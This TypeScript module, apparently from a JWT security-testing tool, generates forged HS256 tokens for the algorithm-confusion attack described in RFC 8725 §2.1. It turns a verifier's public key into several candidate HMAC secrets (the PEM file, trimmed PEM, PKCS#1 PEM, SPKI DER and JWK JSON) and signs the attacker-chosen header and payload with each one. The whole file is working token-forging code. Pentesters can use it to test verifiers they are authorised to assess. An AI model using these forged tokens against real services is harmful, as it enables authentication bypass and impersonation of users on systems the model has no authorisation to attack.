/**
 * `key-confusion` (RFC 8725 §2.1): HS256 tokens whose HMAC secret is the verifier's own public key, in every
 * form a verifier plausibly hands to HMAC: the key file's bytes, the same without its final newline, the
 * PKCS#1 PEM (RSA only: PKCS#1, RFC 8017, defines RSA keys alone), the SPKI DER, the JWK as JSON.
 *
 * The alg is always HS256, whatever the token's: a verifier that lets the header pick the algorithm takes
 * HS384 or HS512 as readily, and HS256 is the one every library implements (jwt_tool and Burp use it too).
 */
import { exportSPKI, importJWK } from 'jose';
import { TAG, content, expectTag, readChildren, readRoot } from '../asn1';
import { utf8Bytes } from '../base64url';
import { KeyError, prepareKeys, type PreparedKey, type PreparedKeys, type PublicJwk } from '../keys';
import { derToPem, parsePemBlocks } from '../pem';
import { hmacToken } from './forge';
import { withHeaderMember, type AttackTarget } from './target';
import { AttackError, type AttackVariant } from './types';

export type ConfusionForm = 'pem-as-file' | 'pem-trimmed' | 'pkcs1-pem' | 'spki-der' | 'jwk-json';

/** The verifier's public key(s), read once for every token of a batch. */
export interface ConfusionKey {
  /** The key file's text when it is PEM: pem-as-file is then the file itself. */
  readonly pemText: string | null;
  readonly keys: readonly PreparedKey[];
  /** Secrets per key, made on first use. */
  readonly forms: Map<PreparedKey, Promise<ConfusionSecret[]>>;
}

interface ConfusionSecret {
  form: ConfusionForm;
  secret: Uint8Array;
  /** What the secret is, for the explanation. */
  what: string;
}

/** Reads the key file's text: a PEM public key or certificate, a public JWK, or a JWKS of public keys. */
export async function readConfusionKey(text: string): Promise<ConfusionKey> {
  let prepared: PreparedKeys;
  try {
    prepared = await prepareKeys({ type: 'auto', value: text });
  } catch (e) {
    if (!(e instanceof KeyError)) throw e;
    throw new AttackError('invalid-key', `${e.code}: ${e.message}`, { cause: e, details: { keyCode: e.code } });
  }
  if (prepared.keys.some((k) => k.type !== 'public' || k.publicJwk === null)) {
    throw new AttackError(
      'key-not-public',
      'key-confusion needs the public key the verifier holds (a PEM public key or certificate, a public JWK or JWKS); this holds a private key or a secret',
    );
  }
  return { pemText: text.includes('-----BEGIN ') ? text : null, keys: prepared.keys, forms: new Map() };
}

export async function keyConfusionVariants(target: AttackTarget, source: ConfusionKey): Promise<AttackVariant[]> {
  const key = pickKey(source, target);
  let forms = source.forms.get(key);
  if (!forms) source.forms.set(key, (forms = secretsOf(key, source.pemText)));
  const headerText = withHeaderMember(target.headerText, 'alg', 'HS256');
  return Promise.all(
    (await forms).map(async ({ form, secret, what }) => ({
      kind: 'key-confusion' as const,
      variant: form,
      token: await hmacToken('HS256', secret, headerText, target.payloadSegment),
      explanation:
        `HS256 with ${what} as the HMAC secret: a verifier that lets the header pick HS256 and hands its public key to HMAC accepts it. ` +
        'RFC 8725 §2.1 describes this substitution, and §3.1 requires each key to be used with exactly one algorithm.',
    })),
  );
}

/** The key the verifier would use for this token: the only one, or the JWKS entry named by its kid. */
function pickKey(source: ConfusionKey, target: AttackTarget): PreparedKey {
  if (source.keys.length === 1) return source.keys[0] as PreparedKey;
  const byKid = target.kid === null ? undefined : source.keys.find((k) => k.kid === target.kid);
  if (byKid) return byKid;
  throw new AttackError(
    'key-ambiguous',
    `the JWKS has ${source.keys.length} keys and ${target.kid === null ? 'the token has no kid' : "none has the token's kid"}: give the one public key the verifier uses`,
  );
}

const IMPORT_ALG: Record<string, string> = { RSA: 'RS256', 'P-256': 'ES256', 'P-384': 'ES384', 'P-521': 'ES512', Ed25519: 'EdDSA' };

async function secretsOf(key: PreparedKey, pemText: string | null): Promise<ConfusionSecret[]> {
  const jwk = key.publicJwk as PublicJwk;
  const spki = await spkiOf(jwk);
  const asFile = pemText ?? derToPem('PUBLIC KEY', spki);
  const trimmed = asFile.replace(/[\r\n]+$/, '');
  const out: ConfusionSecret[] = [
    {
      form: 'pem-as-file',
      secret: utf8Bytes(asFile),
      what:
        pemText === null
          ? 'the key as an SPKI PEM file (64-character lines and a final newline, as openssl writes it; the key file given was a JWK)'
          : "the public key file's exact bytes",
    },
    {
      form: 'pem-trimmed',
      secret: utf8Bytes(trimmed),
      what:
        trimmed === asFile
          ? 'the PEM without a trailing newline (the file has none, so this is the pem-as-file secret again)'
          : 'the PEM without its trailing newline (as read from an environment variable or a trimmed setting)',
    },
  ];
  if (jwk.kty === 'RSA') {
    out.push({ form: 'pkcs1-pem', secret: utf8Bytes(derToPem('RSA PUBLIC KEY', pkcs1Of(spki))), what: 'the key as a PKCS#1 PEM (BEGIN RSA PUBLIC KEY, final newline)' });
  }
  out.push(
    { form: 'spki-der', secret: spki, what: "the key's DER bytes (SubjectPublicKeyInfo)" },
    {
      form: 'jwk-json',
      secret: utf8Bytes(JSON.stringify(jwk)),
      what: `the public JWK as compact JSON (${jwk.kty === 'RSA' ? 'kty, n, e' : jwk.kty === 'EC' ? 'kty, crv, x, y' : 'kty, crv, x'}, in that order)`,
    },
  );
  return out;
}

/** The DER SubjectPublicKeyInfo of a public JWK, as WebCrypto exports it. */
async function spkiOf(jwk: PublicJwk): Promise<Uint8Array> {
  const alg = IMPORT_ALG[jwk.kty === 'RSA' ? 'RSA' : jwk.crv] as string;
  try {
    const cryptoKey = await importJWK({ ...jwk }, alg, { extractable: true });
    const pem = await exportSPKI(cryptoKey as Parameters<typeof exportSPKI>[0]);
    return (parsePemBlocks(pem)[0] as { der: Uint8Array }).der;
  } catch (e) {
    throw new AttackError('crypto-failed', `could not export the public key as SPKI: ${(e as Error)?.message ?? String(e)}`, { cause: e });
  }
}

/** The PKCS#1 RSAPublicKey inside an RSA SubjectPublicKeyInfo: the BIT STRING's bytes after its unused-bits count. */
function pkcs1Of(spki: Uint8Array): Uint8Array {
  const [, bits] = readChildren(spki, readRoot(spki, TAG.SEQUENCE));
  return content(spki, expectTag(bits, TAG.BIT_STRING, 'subjectPublicKey')).subarray(1);
}
